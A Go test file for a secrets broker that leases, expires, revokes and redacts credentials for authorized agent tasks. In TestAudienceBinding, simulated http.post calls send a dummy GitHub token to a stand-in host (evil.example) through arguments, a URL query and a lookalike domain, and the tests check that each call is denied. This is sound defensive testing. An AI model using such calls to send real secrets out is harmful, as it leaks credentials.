package secrets

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/taskguard/taskguard/authz"
	"github.com/taskguard/taskguard/authz/authztest"
)

const testPolicy = `
rules:
  - name: lease-tokens
    tools: [secrets.lease]
    effect: allow
    when: destination.host in ["github-token", "db-password", "short", "panic", "restricted"] && !task.labels.exists(k, k == "no-secrets")
  - name: web
    tools: [http.post]
    effect: allow
    when: "true"
`

// recordingSource wraps Static and counts calls.
type recordingSource struct {
	Source
	issued, revoked atomic.Int64
	revokeErr       error
}

func (s *recordingSource) Issue(ctx context.Context, req IssueRequest) (Credential, error) {
	if req.Name == "panic" {
		panic("source bug")
	}
	s.issued.Add(1)
	return s.Source.Issue(ctx, req)
}

func (s *recordingSource) Revoke(ctx context.Context, c Credential) error {
	s.revoked.Add(1)
	return s.revokeErr
}

func (s *recordingSource) Class(name string) (authz.Sensitivity, bool) {
	return s.Source.(Classifier).Class(name)
}

const tokenValue = "ghp_0123456789abcdefSECRET"

type env struct {
	g   *authz.Guard
	b   *Broker
	src *recordingSource
	clk *authztest.Clock
}

func newEnv(t testing.TB, opts ...Option) *env {
	t.Helper()
	clk := authztest.NewClock(time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC))
	p, err := authz.ParsePolicy("test.yaml", []byte(testPolicy))
	require.NoError(t, err)
	g, err := authz.New(authz.WithPolicy(p), authz.WithClock(clk.Now))
	require.NoError(t, err)
	src := &recordingSource{Source: StaticClassified(map[string]string{
		"github-token": tokenValue, "db-password": "correct horse battery staple", "short": "abc",
		"restricted": "top-secret-value", "panic": "whatever",
	}, map[string]authz.Sensitivity{"restricted": authz.Restricted})}
	b, err := NewBroker(g, src, append([]Option{WithClock(clk.Now), WithMaxTTL(10 * time.Minute)}, opts...)...)
	require.NoError(t, err)
	t.Cleanup(func() { _ = b.Close() })
	return &env{g: g, b: b, src: src, clk: clk}
}

func (e *env) begin(t testing.TB, spec authz.TaskSpec) (context.Context, *authz.Task) {
	t.Helper()
	if spec.Agent.ID == "" {
		spec.Agent.ID = "spiffe://test/agent"
	}
	if spec.Clearance == 0 {
		spec.Clearance = authz.Confidential
	}
	ctx, task, err := e.g.Begin(context.Background(), spec)
	require.NoError(t, err)
	t.Cleanup(task.End)
	return ctx, task
}

func value(t testing.TB, l *Lease) string {
	t.Helper()
	var got string
	require.NoError(t, l.Use(func(v []byte) error { got = string(v); return nil }))
	return got
}

func TestLeaseAndUse(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx, task := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	l, err := e.b.Lease(ctx, "github-token", TTL(time.Minute))
	require.NoError(t, err)
	assert.Equal(t, tokenValue, value(t, l))
	assert.Equal(t, "github-token", l.Name())
	assert.True(t, strings.HasPrefix(l.ID(), "lease_"))
	assert.Equal(t, e.clk.Now().Add(time.Minute), l.ExpiresAt())
	assert.Equal(t, 1, task.Calls()[LeaseTool], "the lease is an authorized call of the task")
	assert.Equal(t, 1, e.b.Live())

	// The slice handed to Use is a copy, zeroed afterwards.
	var kept []byte
	require.NoError(t, l.Use(func(v []byte) error { kept = v; return nil }))
	assert.Equal(t, make([]byte, len(tokenValue)), kept)
	assert.Equal(t, tokenValue, value(t, l))

	// Errors from the callback come back; a panic becomes an error.
	boom := errors.New("boom")
	assert.ErrorIs(t, l.Use(func([]byte) error { return boom }), boom)
	err = l.Use(func([]byte) error { panic(tokenValue) })
	require.Error(t, err)
	assert.NotContains(t, err.Error(), tokenValue)
}

func TestLeaseTTLBounds(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	now := e.clk.Now()
	ctx, _ := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	l, err := e.b.Lease(ctx, "github-token")
	require.NoError(t, err)
	assert.Equal(t, now.Add(10*time.Minute), l.ExpiresAt(), "max TTL by default")
	l, err = e.b.Lease(ctx, "github-token", TTL(time.Hour))
	require.NoError(t, err)
	assert.Equal(t, now.Add(10*time.Minute), l.ExpiresAt(), "the max TTL bounds a request")

	short, _ := e.begin(t, authz.TaskSpec{TTL: 2 * time.Minute})
	l, err = e.b.Lease(short, "github-token", TTL(5*time.Minute))
	require.NoError(t, err)
	assert.Equal(t, now.Add(2*time.Minute), l.ExpiresAt(), "the task deadline bounds a lease")
}

func TestLeaseExpires(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx, _ := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	l, err := e.b.Lease(ctx, "github-token", TTL(time.Minute))
	require.NoError(t, err)
	e.clk.Advance(59 * time.Second)
	require.NoError(t, l.Renew(time.Minute))
	assert.Equal(t, e.clk.Now().Add(time.Minute), l.ExpiresAt())
	e.clk.Advance(time.Minute)
	assert.ErrorIs(t, l.Use(func([]byte) error { return nil }), ErrLeaseExpired)
	assert.ErrorIs(t, l.Renew(time.Minute), ErrLeaseExpired)
	assert.EqualValues(t, 1, e.src.revoked.Load(), "the source revokes an expired credential")
	assert.Zero(t, e.b.Live())
	l.Revoke()
	assert.ErrorIs(t, l.Use(func([]byte) error { return nil }), ErrLeaseExpired, "expired stays expired")
}

func TestRenewBounds(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	start := e.clk.Now()
	ctx, _ := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	l, err := e.b.Lease(ctx, "github-token", TTL(time.Minute))
	require.NoError(t, err)
	for range 20 {
		e.clk.Advance(50 * time.Second)
		if err := l.Renew(5 * time.Minute); err != nil {
			break
		}
		assert.False(t, l.ExpiresAt().After(start.Add(10*time.Minute)), "never past the max TTL from issue")
	}
	assert.ErrorIs(t, l.Use(func([]byte) error { return nil }), ErrLeaseExpired)
	assert.Error(t, l.Renew(0))
}

func TestRevoke(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx, _ := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	l, err := e.b.Lease(ctx, "github-token")
	require.NoError(t, err)
	l.Revoke()
	l.Revoke()
	assert.ErrorIs(t, l.Use(func([]byte) error { return nil }), ErrLeaseRevoked)
	assert.EqualValues(t, 1, e.src.revoked.Load())
	assert.Zero(t, e.b.Live())
}

func TestLeaseErrors(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx, task := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	denyCtx, _ := e.begin(t, authz.TaskSpec{Labels: map[string]string{"no-secrets": "1"}})
	lowCtx, _ := e.begin(t, authz.TaskSpec{Clearance: authz.Internal})
	endedCtx, ended := e.begin(t, authz.TaskSpec{})
	ended.End()

	_, err := e.b.Lease(denyCtx, "github-token")
	assert.ErrorIs(t, err, authz.ErrDenied, "policy refusal")
	_, err = e.b.Lease(lowCtx, "github-token")
	var de *authz.DeniedError
	require.ErrorAs(t, err, &de, "a Confidential secret above an Internal clearance")
	assert.Equal(t, authz.RuleClearance, de.Decision.Rule)
	assert.ErrorContains(t, err, "begin the task with Clearance: authz.Confidential (or higher), or classify the secret lower",
		"the denial says how to fix it")
	_, err = e.b.Lease(ctx, "restricted")
	assert.ErrorIs(t, err, authz.ErrDenied, "the source's class is the call's sensitivity")
	_, err = e.b.Lease(context.Background(), "github-token")
	assert.ErrorContains(t, err, "no task")
	_, err = e.b.Lease(endedCtx, "github-token")
	assert.ErrorContains(t, err, "ended")
	_, err = e.b.Lease(ctx, "nope")
	assert.ErrorIs(t, err, ErrUnknownSecret)
	for _, bad := range []string{"", "a/b", "x y", strings.Repeat("a", 200)} {
		_, err = e.b.Lease(ctx, bad)
		assert.Error(t, err, bad)
	}
	_, err = e.b.Lease(ctx, "short")
	assert.ErrorContains(t, err, "shorter")
	assert.NotContains(t, err.Error(), "abc")
	_, err = e.b.Lease(ctx, "panic")
	assert.ErrorContains(t, err, "panicked")
	_, err = e.b.Lease(ctx, "github-token", TTL(-1))
	assert.Error(t, err)
	_, err = e.b.Lease(ctx, "github-token", Audience("*.*bad"))
	assert.Error(t, err)
	assert.Zero(t, e.b.Live())
	assert.Equal(t, 2, task.Calls()[LeaseTool], "the authorized attempts (short, panic) count; refused ones do not")
}

func TestTaskEndRevokesLeasesOfSubTasks(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx, parent := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	subCtx, _, err := e.g.Begin(ctx, authz.TaskSpec{Agent: authz.Agent{ID: "sub"}, Clearance: authz.Confidential})
	require.NoError(t, err)
	l1, err := e.b.Lease(ctx, "github-token")
	require.NoError(t, err)
	l2, err := e.b.Lease(subCtx, "db-password")
	require.NoError(t, err)
	assert.Equal(t, 2, e.b.Live())
	parent.End()
	for _, l := range []*Lease{l1, l2} {
		assert.ErrorIs(t, l.Use(func([]byte) error { return nil }), ErrLeaseRevoked)
	}
	assert.Zero(t, e.b.Live())
	assert.EqualValues(t, 2, e.src.revoked.Load())
}

func TestRevokeFailuresAreReported(t *testing.T) {
	t.Parallel()
	var logs bytes.Buffer
	e := newEnv(t, WithLogger(slog.New(slog.NewJSONHandler(&logs, nil))))
	e.src.revokeErr = errors.New("vault unreachable")
	ctx, task := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	_, err := e.b.Lease(ctx, "github-token")
	require.NoError(t, err)
	_, err = e.b.Lease(ctx, "db-password")
	require.NoError(t, err)
	task.End()
	err = e.b.Flush()
	require.Error(t, err)
	assert.Equal(t, 2, strings.Count(err.Error(), "vault unreachable"))
	assert.NoError(t, e.b.Flush(), "flushed errors are forgotten")
	assert.Contains(t, logs.String(), "vault unreachable")
	assert.NotContains(t, logs.String(), tokenValue)

	_, err = e.b.Lease(ctx, "github-token")
	assert.Error(t, err, "task ended")
	ctx2, _ := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	_, err = e.b.Lease(ctx2, "github-token")
	require.NoError(t, err)
	assert.ErrorContains(t, e.b.Close(), "vault unreachable", "Close revokes live leases and reports failures")
	assert.ErrorIs(t, e.b.Close(), ErrClosed)
	_, err = e.b.Lease(ctx2, "github-token")
	assert.ErrorIs(t, err, ErrClosed)
}

func TestNeverPrintable(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx, _ := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	l, err := e.b.Lease(ctx, "github-token")
	require.NoError(t, err)
	cred := NewCredential("cred-1", []byte(tokenValue), time.Time{})
	for name, v := range map[string]any{"lease": l, "credential": cred, "credential pointer": &cred} {
		var outs []string
		for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%X", "%d", "%T %v", "%10.3v"} {
			outs = append(outs, fmt.Sprintf(verb, v))
		}
		outs = append(outs, fmt.Sprint(v), fmt.Sprintln(v), fmt.Sprint([]any{v}), fmt.Sprintf("%v", map[string]any{"x": v}))
		js, err := json.Marshal(v)
		require.NoError(t, err)
		outs = append(outs, string(js))
		var jbuf, tbuf bytes.Buffer
		slog.New(slog.NewJSONHandler(&jbuf, nil)).Info("x", "secret", v)
		slog.New(slog.NewTextHandler(&tbuf, nil)).Info("x", "secret", v)
		outs = append(outs, jbuf.String(), tbuf.String())
		for _, o := range outs {
			assert.NotContains(t, o, tokenValue, "%s: %s", name, o)
			assert.NotContains(t, o, fmt.Sprintf("%x", tokenValue), "%s: %s", name, o)
			assert.NotContains(t, strings.ToLower(o), fmt.Sprintf("%x", tokenValue[:8]), "%s: %s", name, o)
		}
		assert.Contains(t, strings.Join(outs, "\n"), Redacted)
	}
	src := Static(map[string]string{"k": tokenValue})
	assert.NotContains(t, fmt.Sprintf("%v %+v %#v", src, src, src), tokenValue)
}

func TestRedact(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	// A Static source directly: its values outlive their leases.
	b, err := NewBroker(e.g, Static(map[string]string{"github-token": tokenValue, "db-password": "correct horse battery staple"}),
		WithClock(e.clk.Now))
	require.NoError(t, err)
	defer b.Close()
	e.b = b
	ctx1, _ := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	ctx2, task2 := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	assert.Equal(t, "nothing live", e.b.Redact("nothing live"))
	l1, err := e.b.Lease(ctx1, "github-token")
	require.NoError(t, err)
	_, err = e.b.Lease(ctx2, "db-password")
	require.NoError(t, err)
	text := "token=" + tokenValue + "; pw=correct horse battery staple; again " + tokenValue
	assert.Equal(t, "token="+Redacted+"; pw="+Redacted+"; again "+Redacted, e.b.Redact(text), "values of every task")
	task2.End()
	l1.Revoke()
	assert.Equal(t, "token="+Redacted+"; pw="+Redacted+"; again "+Redacted, e.b.Redact(text),
		"a static value still works after its lease dies, so it stays redacted")
}

func TestRedactOnlyLiveMintedValues(t *testing.T) {
	t.Parallel()
	// A source whose credentials die with their lease (not a Static).
	b, _, ctx := realClockBroker(t, time.Hour)
	defer b.Close()
	l, err := b.Lease(ctx, "github-token")
	require.NoError(t, err)
	assert.Equal(t, Redacted, b.Redact(tokenValue))
	l.Revoke()
	assert.Equal(t, tokenValue, b.Redact(tokenValue), "a revoked dynamic credential is dead: nothing left to hide")
}

func TestAudienceBinding(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx, _ := e.begin(t, authz.TaskSpec{TTL: time.Hour})
	subCtx, _, err := e.g.Begin(ctx, authz.TaskSpec{Agent: authz.Agent{ID: "sub"}, Clearance: authz.Confidential})
	require.NoError(t, err)
	l, err := e.b.Lease(ctx, "github-token", Audience("api.github.com", "*.githubusercontent.com"))
	require.NoError(t, err)
	post := func(ctx context.Context, dest string, args map[string]any) authz.Decision {
		return e.g.Check(ctx, authz.Call{Tool: "http.post", Intent: "write", Destination: dest, Args: args})
	}
	withToken := map[string]any{"headers": map[string]any{"Authorization": "Bearer " + tokenValue}}
	assert.Equal(t, authz.Allow, post(ctx, "https://api.github.com/user", withToken).Effect)
	assert.Equal(t, authz.Allow, post(ctx, "https://raw.githubusercontent.com/x", withToken).Effect)
	assert.Equal(t, authz.Allow, post(ctx, "https://evil.example/", map[string]any{"q": "no secret here"}).Effect)

	for name, d := range map[string]authz.Decision{
		"args":            post(ctx, "https://evil.example/collect", withToken),
		"nested list":     post(ctx, "https://evil.example/", map[string]any{"a": []any{1, []any{"x" + tokenValue}}}),
		"in the url":      post(ctx, "https://evil.example/?t="+tokenValue, nil),
		"lookalike":       post(ctx, "https://api.github.com.evil.example/", withToken),
		"sub-task":        post(subCtx, "https://evil.example/", withToken),
		"file":            e.g.Check(ctx, authz.Call{Tool: "http.post", Intent: "write", Destination: "/tmp/leak", Args: withToken}),
		"token as a key":  post(ctx, "https://evil.example/", map[string]any{tokenValue: true}),
		"string map args": post(ctx, "https://evil.example/", map[string]any{"h": map[string]string{"a": tokenValue}}),
	} {
		assert.Equal(t, authz.Deny, d.Effect, name)
		assert.Equal(t, authz.RuleInspect+":secrets", d.Rule, name)
		assert.Contains(t, d.Reason, "secret exfiltration", name)
		assert.NotContains(t, d.Reason, tokenValue, name)
	}
	l.Revoke()
	assert.Equal(t, authz.Allow, post(ctx, "https://evil.example/collect", withToken).Effect, "the binding lives with the lease")
}

// TestConcurrentTaskEnds ends 100 tasks with 10 leases each concurrently:
// afterwards no lease is usable and the broker holds none.
func TestConcurrentTaskEnds(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	const tasks, leases = 100, 10
	var all sync.Map
	var wg sync.WaitGroup
	start := make(chan struct{})
	for i := range tasks {
		wg.Go(func() {
			ctx, task, err := e.g.Begin(context.Background(), authz.TaskSpec{Agent: authz.Agent{ID: fmt.Sprint("agent-", i)},
				Clearance: authz.Confidential, TTL: time.Hour})
			if !assert.NoError(t, err) {
				return
			}
			for j := range leases {
				l, err := e.b.Lease(ctx, "github-token")
				if !assert.NoError(t, err) {
					return
				}
				all.Store(fmt.Sprint(i, "/", j), l)
				_ = e.b.Redact("x " + tokenValue)
			}
			<-start
			task.End()
		})
	}
	close(start)
	wg.Wait()
	n := 0
	all.Range(func(_, v any) bool {
		n++
		assert.ErrorIs(t, v.(*Lease).Use(func([]byte) error { return nil }), ErrLeaseRevoked)
		return true
	})
	assert.Equal(t, tasks*leases, n)
	assert.Zero(t, e.b.Live())
	assert.EqualValues(t, tasks*leases, e.src.revoked.Load())
	assert.Equal(t, "x "+tokenValue, e.b.Redact("x "+tokenValue), "the recording source's credentials die with their leases")
}

func TestRealClockExpiry(t *testing.T) {
	t.Parallel()
	b, src, ctx := realClockBroker(t, authz.DefaultTTL)
	l, err := b.Lease(ctx, "github-token", TTL(time.Millisecond))
	require.NoError(t, err)
	require.Eventually(t, func() bool { return src.revoked.Load() == 1 }, 10*time.Second, time.Millisecond,
		"the timer revokes the credential at expiry without a Use")
	assert.ErrorIs(t, l.Use(func([]byte) error { return nil }), ErrLeaseExpired)
	require.NoError(t, b.Close())
}

func TestNewBrokerValidates(t *testing.T) {
	t.Parallel()
	g, err := authz.New()
	require.NoError(t, err)
	_, err = NewBroker(nil, Static(nil))
	assert.Error(t, err)
	_, err = NewBroker(g, nil)
	assert.Error(t, err)
	for _, o := range []Option{WithMaxTTL(0), WithClock(nil), WithRevokeTimeout(-1)} {
		_, err = NewBroker(g, Static(nil), o)
		assert.Error(t, err)
	}
}

func TestEnvSource(t *testing.T) {
	t.Setenv("TASKGUARD_TEST_TOKEN", tokenValue)
	src, err := Env(map[string]string{"github-token": "TASKGUARD_TEST_TOKEN"})
	require.NoError(t, err)
	c, err := src.Issue(context.Background(), IssueRequest{Name: "github-token"})
	require.NoError(t, err)
	assert.Equal(t, tokenValue, string(c.Value()))
	_, err = src.Issue(context.Background(), IssueRequest{Name: "other"})
	assert.ErrorIs(t, err, ErrUnknownSecret)
	_, err = Env(map[string]string{"x": "TASKGUARD_TEST_UNSET_VARIABLE"})
	assert.ErrorContains(t, err, "TASKGUARD_TEST_UNSET_VARIABLE")
}

// TestCloseLeavesNothingRunning: after Close no lease is usable, no timer is
// pending and no goroutine of the broker's is left.
func TestCloseLeavesNothingRunning(t *testing.T) {
	before := runtime.NumGoroutine()
	b, src, ctx := realClockBroker(t, time.Hour)
	task, _ := authz.TaskFrom(ctx)
	var leases []*Lease
	for range 50 {
		l, err := b.Lease(ctx, "github-token", TTL(30*time.Minute))
		require.NoError(t, err)
		leases = append(leases, l)
	}
	require.NoError(t, b.Close())
	for _, l := range leases {
		assert.ErrorIs(t, l.Use(func([]byte) error { return nil }), ErrLeaseRevoked)
		l.mu.Lock()
		assert.False(t, l.timer.Stop(), "the expiry timer was stopped")
		l.mu.Unlock()
	}
	assert.EqualValues(t, 50, src.revoked.Load())
	task.End()
	// (testify's Eventually runs its condition on a goroutine of its own.)
	deadline := time.Now().Add(5 * time.Second)
	for runtime.NumGoroutine() > before && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if n := runtime.NumGoroutine(); n > before {
		buf := make([]byte, 1<<16)
		t.Fatalf("%d goroutines before, %d after Close:\n%s", before, n, buf[:runtime.Stack(buf, true)])
	}
}

func TestAuditLogNeverShowsLeasedValues(t *testing.T) {
	t.Parallel()
	var logs bytes.Buffer
	var mu sync.Mutex
	clk := authztest.NewClock(time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC))
	p, err := authz.ParsePolicy("test.yaml", []byte(testPolicy))
	require.NoError(t, err)
	g, err := authz.New(authz.WithPolicy(p), authz.WithClock(clk.Now),
		authz.WithLogger(slog.New(slog.NewJSONHandler(lockedWriter{&mu, &logs}, nil))))
	require.NoError(t, err)
	b, err := NewBroker(g, Static(map[string]string{"github-token": tokenValue}), WithClock(clk.Now))
	require.NoError(t, err)
	defer b.Close()
	ctx, task, err := g.Begin(context.Background(), authz.TaskSpec{Agent: authz.Agent{ID: "a"}, Clearance: authz.Confidential, TTL: time.Hour})
	require.NoError(t, err)
	defer task.End()
	_, err = b.Lease(ctx, "github-token", Audience("hooks.example.org"))
	require.NoError(t, err)
	// The value in a URL path to its own audience is allowed, and logged redacted.
	d := g.Check(ctx, authz.Call{Tool: "http.post", Intent: "write", Destination: "https://hooks.example.org/services/" + tokenValue})
	require.Equal(t, authz.Allow, d.Effect)
	mu.Lock()
	defer mu.Unlock()
	assert.NotContains(t, logs.String(), tokenValue)
	assert.Contains(t, logs.String(), "/services/"+Redacted)
}

type lockedWriter struct {
	mu *sync.Mutex
	w  *bytes.Buffer
}

func (l lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}

// realClockBroker returns a broker on the real clock over a recording
// source holding tokenValue, and a context with a task of the given TTL
// (ended when the test ends).
func realClockBroker(t *testing.T, ttl time.Duration) (*Broker, *recordingSource, context.Context) {
	t.Helper()
	p, err := authz.ParsePolicy("p.yaml", []byte(testPolicy))
	require.NoError(t, err)
	g, err := authz.New(authz.WithPolicy(p))
	require.NoError(t, err)
	src := &recordingSource{Source: Static(map[string]string{"github-token": tokenValue})}
	b, err := NewBroker(g, src)
	require.NoError(t, err)
	ctx, task, err := g.Begin(context.Background(), authz.TaskSpec{Agent: authz.Agent{ID: "a"}, Clearance: authz.Confidential, TTL: ttl})
	require.NoError(t, err)
	t.Cleanup(task.End)
	return b, src, ctx
}
